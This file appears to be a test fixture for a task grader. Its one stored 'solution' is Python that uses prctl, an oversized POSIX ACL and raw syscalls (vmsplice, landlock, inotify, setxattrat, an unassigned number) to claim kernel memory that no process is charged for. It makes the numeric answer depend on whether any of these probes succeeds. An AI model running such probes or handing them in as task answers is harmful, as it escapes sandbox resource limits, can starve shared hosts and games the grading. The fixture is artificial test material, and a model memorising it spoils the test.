"""Takes memory that no process holds: a table of futexes, access lists of files, pages in pipes, rules, watches."""

BASE = "solution"
ANSWERS = {
    "number": """
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
got = []
if libc.prctl(78, 1, 1 << 22, 0, 0) == 0:
    got.append("futexes")
entries = [(1, 7, 2**32 - 1), *((2, 7, 1000 + user) for user in range(8000))]
entries += [(4, 7, 2**32 - 1), (16, 7, 2**32 - 1), (32, 7, 2**32 - 1)]
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)
open("hbattack", "w").close()
try:
    os.setxattr("hbattack", "system.posix_acl_access", acl)
    got.append("access lists")
except OSError:
    pass
out, into = os.pipe()
room = ctypes.create_string_buffer(8192)
parts = struct.pack("PN", ctypes.addressof(room), 8192)
# vmsplice, landlock_create_ruleset, inotify_init1, setxattrat, and one that is not made yet
for name, call in {
    "pages": (278, into, parts, 1, 0),
    "rules": (444, struct.pack("Q", 1), 8, 0),
    "watches": (294, 0),
    "new access lists": (463, -100, b"hbattack", 0, b"user.hbattack", room, 16),
    "new": (1000,),
}.items():
    if libc.syscall(*call) >= 0:
        got.append(name)
print(got)
number = 0 if got else data.mean()
"""
}
POINTS = 8
REASON = ""
